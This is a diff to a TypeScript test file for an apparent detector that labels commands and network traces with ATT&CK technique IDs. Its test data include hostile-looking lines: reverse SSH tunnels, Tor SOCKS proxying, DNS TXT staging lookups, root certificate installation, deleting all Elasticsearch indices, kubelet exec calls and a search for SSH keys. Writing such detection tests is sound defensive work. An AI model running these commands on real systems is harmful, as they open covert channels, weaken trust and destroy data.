@@ -37,9 +37,28 @@ test('one question is told as what it is, and weighs nothing', () => {
   assert.equal(report.verdict, null)
 })
 
+test('what is said over connections', () => {
+  const said = (start: string): Partial<Trace> => ({ network: [{ kind: 'tcp', host: '192.0.2.4', port: 9050, start }] })
+  shows('T1090', [said('\\x05\\x01\\x00')])
+  shows('T1090.003', [said('\\x05\\x01\\x00\\x05\\x01\\x00\\x03?k5zq.onion\\x00P')])
+  lacks('T1090', [said('\\x05hello')])
+  shows('T1485', [gets('http://192.0.2.4:9200/_all', { method: 'DELETE' })])
+  shows('T1609', [gets('http://10.42.0.1:10250/run/kube-system/p/c', { method: 'POST' })])
+  shows('T1613', [gets('http://10.42.0.1:10255/runningpods/')])
+  lacks('T1609', [gets('http://build.x.example/run/tests/a', { method: 'POST' })])
+  lacks('T1485', [gets('http://api.x.example/carts/1', { method: 'DELETE' })])
+})
+
 test('commands by what they are for', () => {
   const table: readonly (readonly [string, string])[] = [
     ['T1033', 'whoami'],
+    ['T1572', 'ssh -fN -o StrictHostKeyChecking=no -R 22022:127.0.0.1:22 t@198.51.100.7'],
+    ['T1572', 'ssh -N -D 1080 t@198.51.100.7'],
+    ['T1090', 'netsh interface portproxy add v4tov4 listenport=8443 connectaddress=10.0.0.5 connectport=3389'],
+    ['T1090', 'curl -s --socks5-hostname 127.0.0.1:9050 http://x.example/'],
+    ['T1071.004', 'dig +short TXT 1.stage.example'],
+    ['T1071.004', 'nslookup -type=txt 1.stage.example'],
+    ['T1553.004', 'certutil -addstore -f root ca.crt'],
     ['T1135', 'net view \\\\filesrv'],
     ['T1083', 'find / -name id_rsa'],
     ['T1083', 'cmd /c dir C:\\Users /s /b'],
@@ -62,6 +81,9 @@ test('commands by what they are for', () => {
   ]
   for (const [id, line] of table) shows(id, [runs(line)])
   lacks('T1489', [runs('systemctl start postgresql')])
+  lacks('T1572', [runs('ssh -o BatchMode=yes -l deploy -p 2222 web1 uptime')])
+  lacks('T1071.004', [runs('dig +short A www.x.example')])
+  lacks('T1553.004', [runs('certutil -addstore -f CA ca.crt')])
   lacks('T1489', [runs('echo stop the service')])
   lacks('T1140', [runs('base64 /tmp/a')])
   lacks('T1570', [runs('scp report.pdf anna@192.0.2.4:/srv/reports')])
